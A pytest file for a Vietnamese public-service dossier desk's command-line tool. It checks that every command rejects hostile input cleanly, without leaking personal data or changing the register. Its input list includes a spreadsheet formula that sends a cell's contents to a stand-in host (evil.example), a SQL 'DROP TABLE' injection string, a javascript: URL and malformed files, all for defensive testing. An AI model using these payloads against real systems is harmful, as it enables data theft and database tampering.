"""Clear failure everywhere (issue 20, item 6): every command and import fed hostile input
answers with exit 2 and one line on standard error, no traceback, no personal data in the log,
and nothing changed in the register. On SQLite and PostgreSQL."""

from __future__ import annotations

import logging
import os
import zipfile

import pytest
from sqlalchemy import func, select

from desk_app.cli import main
from desk_app.db.database import open_database
from desk_app.db.models import AgencySettings, AuditEntry, CalendarOverride, Counter, Dossier

# The applicant whose data must never reach the log.
NAME, ID_NO, PHONE = "Phạm Thị Riêng Tư", "079123456789", "0909123456"
HUGE = "x" * 100_000
FORMULA = '=HYPERLINK("http://evil.example/?"&D3,"Xem")'


def _files(folder) -> dict[str, str]:
    """Hostile files for the imports, by name."""
    made = {}

    def put(name: str, data: bytes) -> None:
        path = folder / name
        path.write_bytes(data)
        made[name] = str(path)

    header = "Mã hồ sơ,Mã thủ tục,Người nộp,Ngày tiếp nhận\n"
    put("empty.csv", b"")
    put("bom-only.csv", b"\xef\xbb\xbf")
    put("binary.csv", os.urandom(4096))
    put("nul.csv", (header + "X-1,1.009645,Ng\x00uyen,2026-11-02 08:00\n").encode())
    put("huge-cell.csv", (header + f"X-1,1.009645,{HUGE},2026-11-02 08:00\n").encode())
    put("bad-date.csv", (header + "X-1,1.009645,Nguyen,2026-02-30 08:00\n").encode())
    put("latin1.csv", "Ma,Nguoi nop\nX-1,Nguy\xe9n\n".encode("latin-1"))
    put("not-a-zip.xlsx", b"PK\x03\x04 not really a workbook" * 10)
    put("text.xlsx", b"code,name\n1,2\n")
    with zipfile.ZipFile(folder / "empty-zip.xlsx", "w"):
        pass
    made["empty-zip.xlsx"] = str(folder / "empty-zip.xlsx")
    put("catalogue-bad.csv", b"code,name,field,limit,unit\n1.1,X,F,-5,weeks\n")
    put("catalogue-nul.csv", b"code,name,field,limit,unit\n1.1,X\x00,F,5,working_days\n")
    (folder / "a-folder.csv").mkdir()
    made["a-folder.csv"] = str(folder / "a-folder.csv")
    made["missing.csv"] = str(folder / "missing.csv")
    return made


def _corpus(code: str, files: dict[str, str], tmp: str) -> list[list[str]]:
    """Each entry: the arguments after ``--db URL``."""
    act = ["dossier", "act", code]
    register = ["dossier", "register", "--procedure", "1.009645", "--applicant"]
    return [
        # find
        *(["find", q] for q in (".", "-", "+", "(", "%", "'", "\\", HUGE, "\x00", "   ")),
        ["find", "999999999999999999999999"],
        # dossier register
        [*register, "Nguyễn\x00Văn"],
        [*register, "Nguyễn\x1bVăn"],
        [*register, HUGE],
        [*register, ""],
        [*register, "Nguyễn Văn A", "--phone", "=1+2"],
        [*register, "Nguyễn Văn A", "--id", "١٢٣٤٥٦٧٨٩٠١٢"],
        [*register, "Nguyễn Văn A", "--at", "2026-13-45 08:00"],
        [*register, "Nguyễn Văn A", "--at", "99999-01-01 08:00"],
        [*register, "Nguyễn Văn A", "--documents", "Đơn=99999999999999999999/0/0"],
        [*register, "Nguyễn Văn A", "--documents", "=1/0/0"],
        [*register, "Nguyễn Văn A", "--note", "a" * 5000],
        [*register, "Nguyễn Văn A", "--email", "a@b@c"],
        [*register, "Nguyễn Văn A", "--code", "000.00.00.X99-261102-0001"],
        [*register, "Nguyễn Văn A", "--print", "/proc/receipt.pdf"],
        ["dossier", "register", "--procedure", "'; DROP TABLE dossiers;--", "--applicant", "A"],
        # dossier act and show
        ["dossier", "act", "KHONG-CO", "handed_over"],
        ["dossier", "act", HUGE, "handed_over"],
        ["dossier", "act", "1" * 23, "handed_over"],
        [*act, "handed_over", "--at", "2020-01-01 08:00"],  # before the receipt
        [*act, "handed_over", "--at", "hôm qua"],
        [*act, "returned"],  # not allowed in this state
        [*act, "refused"],  # needs a reason
        [*act, "refused", "--reason", "\x00"],
        [*act, "refused", "--reason", HUGE],
        [*act, "apology", "--reason", "Chậm", "--new-due", "2026-02-30 08:00"],
        [*act, "apology", "--reason", "Chậm"],
        [*act, "handed_over", "--to", "Phòng\x07A"],
        [*act, "handed_over", "--print", "/proc/handover.pdf"],
        ["dossier", "show", "%"],
        ["dossier", "show", HUGE],
        # the citizen's side: postal items, ratings, notices
        [*register, "Nguyễn Văn A", "--channel", "postal", "--tracking", "EE123456789VN"],
        [*register, "Nguyễn Văn A", "--tracking", "EE123456785VN"],  # not by post
        [*register, "Nguyễn Văn A", "--channel", "postal", "--tracking", HUGE],
        [*act, "returned", "--postal", "EE123456785VN"],  # not ready
        [*act, "delivered"],
        [*act, "handed_over", "--postal", "=1+1"],
        ["dossier", "rate", code, "satisfied"],  # not returned
        ["dossier", "rate", code, "5-stars"],
        ["dossier", "rate", "KHONG-CO", "satisfied"],
        ["dossier", "rate", code, "satisfied", "--comment", "\x00"],
        # digitised documents and the internal process
        ["dossier", "attach", code, files["binary.csv"], "--document", "1"],
        ["dossier", "attach", code, files["missing.csv"], "--document", "1"],
        ["dossier", "attach", code, files["a-folder.csv"], "--document", "1"],
        ["dossier", "attach", code, files["nul.csv"], "--document", "9" * 20],
        ["dossier", "attach", code, files["nul.csv"], "--result"],
        ["dossier", "files", code, "--out", "/proc/files"],
        [*act, "forwarded"],  # not handed over
        ["outbox", "list", "--state", "lost"],
        ["outbox", "list", "--limit", "9" * 20],
        ["settings", "set", "sms_headers", "{not json"],
        ["settings", "set", "sms_body", FORMULA],
        ["settings", "set", "sms_url", "javascript:alert(1)"],
        ["settings", "set", "smtp_port", "99999"],
        ["settings", "set", "notify_kinds", "everything"],
        ["settings", "set", "mail_from", HUGE],
        ["print", "postal-list", "--date", "2026-02-30", "--out", f"{tmp}/p.pdf"],
        ["print", "postal-list", "--out", "/proc/p.pdf"],
        [
            "report",
            "--kind",
            "satisfaction",
            "--by",
            "nobody",
            "--period",
            "2026-09",
            "--out",
            f"{tmp}/s.csv",
        ],
        ["report", "--kind", "satisfaction", "--period", "2026-09", "--out", f"{tmp}/s.doc"],
        # settings and calendar
        ["settings", "set", "name", "Ban\x07Quản lý"],
        ["settings", "set", "name", ""],
        ["settings", "set", "unit_code", "không hợp lệ"],
        ["settings", "set", "backup_keep", "-1"],
        ["settings", "set", "backup_keep", "1" * 30],
        ["settings", "set", "report_cutoff", "hôm nay"],
        ["settings", "set", "không_có", "1"],
        ["settings", "set", "address", HUGE],
        ["calendar", "set", "2026-02-30", "off"],
        ["calendar", "set", "2026-12-01", "nghỉ"],
        ["calendar", "set", "2026-12-01", "off", "--reason", "\x00"],
        ["calendar", "set", "99999-12-01", "off"],
        # the due date calculator
        ["due", "--received", "2026-11-23", "--limit", "3", "--unit", "working_days"],
        ["due", "--received", "2026-11-23 08:00", "--limit", "1" * 25, "--unit", "working_days"],
        ["due", "--received", "2026-11-23 08:00", "--limit", "-5", "--unit", "working_days"],
        # imports and exports
        *(["import", files[name]] for name in files if not name.startswith("catalogue")),
        *(["catalogue", "import", files[name]] for name in files),
        ["export", "/proc/register.csv"],
        ["export", f"{tmp}/no/such/folder/register.csv"],
        ["export", f"{tmp}/register.exe"],
        ["export", f"{tmp}/register.csv", "--from", "2026-12-01", "--to", "2026-11-01"],
        ["catalogue", "export", "/proc/catalogue.csv"],
        # printing and reports
        ["print", "receipt", "--code", "KHONG-CO", "--out", f"{tmp}/r.pdf"],
        ["print", "receipt", "--code", code, "--out", "/proc/r.pdf"],
        ["print", "receipt", "--out", f"{tmp}/r.pdf"],  # no code
        ["print", "register", "--from", "2026-12-01", "--to", "2026-11-01", "--out", f"{tmp}/7"],
        ["report", "--period", "2026-Q5", "--out", f"{tmp}/q.csv"],
        ["report", "--period", "2026-13", "--out", f"{tmp}/q.csv"],
        ["report", "--period", "hôm nay", "--out", f"{tmp}/q.csv"],
        ["report", "--from", "2026-12-01", "--to", "2026-11-01", "--out", f"{tmp}/q.csv"],
        ["report", "--period", "2026-09", "--out", f"{tmp}/q.doc"],
        ["report", "--period", "2026-09", "--out", "/proc/q.csv"],
        # audit, backup, restore, accounts, demo data
        ["audit", "list", "--limit", "9" * 20],
        ["audit", "list", "--limit", "-5"],
        ["backup", "--to", "/proc/backups"],
        ["restore", files["missing.csv"]],
        ["restore", files["binary.csv"]],
        ["restore", files["a-folder.csv"]],
        ["user", "add", "lan\x00", "--role", "clerk", "--password-stdin"],
        ["user", "add", "lan", "--role", "clerk", "--full-name", HUGE, "--password-stdin"],
        ["demo-data", "--count", "-1"],
        ["demo-data", "--count", "9" * 20],
    ]


def _state(url: str) -> tuple:
    db = open_database(url)
    try:
        with db.read() as session:
            return (
                session.scalar(select(func.count()).select_from(AuditEntry)),
                session.scalar(select(AuditEntry.hash).order_by(AuditEntry.id.desc()).limit(1)),
                session.scalar(select(func.count()).select_from(Dossier)),
                sorted(session.execute(select(Counter.name, Counter.value)).all()),
                sorted(session.execute(select(CalendarOverride.day, CalendarOverride.kind)).all()),
                repr(session.execute(select(AgencySettings.__table__)).all()),
                repr(session.execute(select(Dossier.__table__).order_by(Dossier.id)).all()),
            )
    finally:
        db.dispose()


@pytest.fixture
def register(capsys, db_url, tmp_path):
    assert main(["--db", db_url, "init", "--samples"]) == 0
    argv = ["--db", db_url, "dossier", "register", "--procedure", "1.009645"]
    made = [*argv, "--applicant", NAME, "--id", ID_NO, "--phone", PHONE]
    assert main([*made, "--at", "2026-11-02 08:30"]) == 0
    code = capsys.readouterr().out.splitlines()[0]
    return db_url, code


def test_every_command_refuses_hostile_input_in_one_line(
    register, tmp_path, capsys, caplog, monkeypatch
):
    url, code = register
    files = _files(tmp_path)
    before = _state(url)
    caplog.set_level(logging.DEBUG)
    failures = []
    for argv in _corpus(code, files, str(tmp_path)):
        monkeypatch.setattr("sys.stdin", __import__("io").StringIO("mật-khẩu-Đủ-Dài-1\n"))
        try:
            status = main(["--db", url, *argv])
        except SystemExit as exc:  # argparse's own usage errors
            status = exc.code
        _, err = capsys.readouterr()
        lines = [line for line in err.splitlines() if line.strip()]
        shown = [a[:40] for a in argv]
        not_found = argv[0] == "find" and status == 1 and "Không tìm thấy" in err
        if status != 2 and not not_found:  # find says "nothing found" as grep does: exit 1
            failures.append((shown, f"exit {status}", err[-300:]))
        elif len(lines) != 1 or "Traceback" in err or "không mong đợi" in err:
            failures.append((shown, "not one line", err[-300:]))
        elif len(lines[0]) > 600:
            failures.append((shown, "line too long", len(lines[0])))
        elif _state(url) != before:
            failures.append((shown, "changed the register", err))
            before = _state(url)
    log = caplog.text
    assert not failures, "\n".join(map(repr, failures))
    for private in (NAME, ID_NO, PHONE):
        assert private not in log
    assert "Traceback" not in log
    assert _state(url) == before  # nothing changed
